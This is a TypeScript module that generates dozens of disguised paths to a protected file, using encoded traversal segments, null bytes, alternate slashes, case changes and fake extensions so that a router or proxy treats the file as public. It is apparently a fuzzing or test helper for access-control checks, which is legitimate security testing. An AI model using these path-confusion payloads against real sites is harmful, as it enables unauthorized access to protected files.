/** Ways to write the path of a protected file so that something on the way might take it for an open one. */

const usual = ['/public', '/auth', '/open', '/robots.txt', '/public/x', '/public/login.html', '/auth/session'];

/** `file`: the absolute path of a protected file. `open`: what is open on the site, or looks like it. */
export const disguises = (file: string, open: readonly string[] = usual): readonly string[] => {
  const up = ['..', '%2e%2e', '%2E%2E', '.%2e', '%2e.', '..%2f..', '%252e%252e', '..;', '..%00', '...', '%c0%ae%c0%ae'];
  const slash = ['/', '%2f', '%2F', '%5c', '\\', '//', '/./', '/%2e/', '%252f', ';/'];
  return [
    ...open.flatMap((folder) =>
      up.flatMap((dots) => slash.map((one) => `${folder}${one}${dots}${one}${file.slice(1)}`)),
    ),
    ...open.map((folder) => `${folder}/../..${file}`),
    ...open.map((folder) => `${folder}${file}`),
    ...open.map((folder) => `${file}?${folder}`),
    ...open.map((folder) => `${file}#${folder}`),
    ...open.map((folder) => `${file};${folder}`),
    ...open.map((folder) => `${file}%3f${folder}`),
    ...open.map((folder) => `${file}%23${folder}`),
    ...open.map((folder) => `${file}%00${folder}`),
    ...open.map((folder) => `${file}/..${folder}/..${file}`),
    `${file}.css`,
    `${file}%2f.css`,
    `/open${file}.css`,
    `/open/..${file}%3f.css`,
    `/open/..${file}#.css`,
    `/open/..${file}?.css`,
    `/`,
    `//`,
    `/.`,
    `/./`,
    `/index.html`,
    `//index.html`,
    `/${file}`,
    `//${file}`,
    `/.${file}`,
    `/./${file}`,
    `/%2e${file}`,
    `/x/..${file}`,
    `${file}.`,
    `${file}/`,
    `${file}%20`,
    `${file}%00`,
    `${file}%00.css`,
    `${file};`,
    `${file}?`,
    `${file}?x`,
    `${file}#`,
    file.replace('/docs', '/%64ocs'),
    file.replace('/docs', '/DOCS'),
    file.replace('.html', '.HTML'),
    file.replace('/', '\\'),
    file.replace('/', '%2f'),
    `/PUBLIC/..${file}`,
    `/Public${file}`,
    `/public%2f..${file}`,
    `/public..${file}`,
    `/publicx/..${file}`,
    `/h/lp.html/..${file}`,
    `/h%2flp.html`,
    `/help.html/..${file}`,
  ];
};
